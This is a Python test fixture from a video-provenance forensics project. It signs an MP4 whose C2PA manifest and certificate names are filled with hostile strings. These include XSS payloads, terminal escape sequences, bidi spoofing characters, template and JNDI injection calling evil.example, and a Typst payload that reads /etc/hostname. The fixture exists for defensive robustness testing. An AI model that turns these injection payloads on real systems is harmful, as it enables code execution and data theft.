"""Footage whose manifest holds hostile text in every field that takes text, and in its certificates' names.

The strings follow contentauth/c2pa-attacks (scripts, markup, long text, special characters), with terminal, typst
and bidirectional ones added.
"""

from __future__ import annotations

from pathlib import Path

from pytest import MonkeyPatch

from forensics.footage import signing
from tests.forensics.provenance import files

HOSTILE = {
    "script": '<script>alert(1)</script><img src=x onerror=alert(2)><a href="javascript:alert(3)">go</a>',
    "markup": "</td></tr></table><b onmouseover='x()'>b</b><!-- --> ]]> &lt;i&gt; <style>*{display:none}</style>",
    "terminal": "\x1b[31mred\x1b]8;;http://evil.example\x07go\x1b]8;;\x07\x1b[2J\x9b1m\r\nE-0001 forged line",
    "bidi": "\u202egnp.exe\u2066\u2069\u200b\ufeff\u2028\u2029",
    "nul": "before\x00after\x07\x08",
    "template": "{{7*7}}{% include '/etc/hostname' %}${jndi:ldap://evil.example/a}%s%n<%= 7*7 %>",
    "typst": '#link("http://evil.example")[go] #eval("1+1") #read("/etc/hostname") #pagebreak() $x$ @ref \\u{1} ]',
    "long": "L" * 10_000 + "end-of-long",
}
EVERY = " ".join(text for name, text in HOSTILE.items() if name != "long")


def hostile(field: str) -> str:
    """Return every hostile string but the long one, behind a word that tells the field."""
    return f"{field}-mark {EVERY}"


def sign_hostile(folder: Path, monkeypatch: MonkeyPatch) -> Path:
    """Return footage signed with hostile text in every field, under names of the same kind."""
    monkeypatch.setattr(signing, "_ORGANISATION", hostile("organisation"))
    chain = signing.make_chain()
    monkeypatch.setattr(files, "chain", lambda: chain)
    return files.sign(
        files.clip(folder),
        folder / "hostile.mp4",
        title=hostile("title"),
        claim_generator_info=[{"name": hostile("generator"), "version": hostile("version"), "x.own": hostile("own")}],
        actions=[
            {
                "action": "c2pa.created",
                "digitalSourceType": files.DST + "trainedAlgorithmicMedia",
                "softwareAgent": {"name": hostile("agent"), "version": hostile("agentversion")},
                "description": hostile("description"),
                "parameters": {"model": hostile("parameter"), hostile("key"): "value"},
            },
            {"action": hostile("action"), "softwareAgent": {"name": HOSTILE["long"]}},
            {"action": "c2pa.edited", "digitalSourceType": hostile("sourcetype"), "reason": hostile("reason")},
        ],
        ingredients=[
            {
                "title": hostile("ingredient"),
                "format": "video/mp4",
                "relationship": "componentOf",
                "description": hostile("ingredientdescription"),
                "instance_id": hostile("instance"),
                "document_id": hostile("document"),
            }
        ],
        extra=[
            {
                "label": "c2pa.soft-binding",
                "data": {"alg": hostile("algorithm"), "blocks": [{"scope": {}, "value": hostile("value")}]},
            },
            {"label": "org.example.notes", "data": {"note": hostile("note")}},
        ],
    )
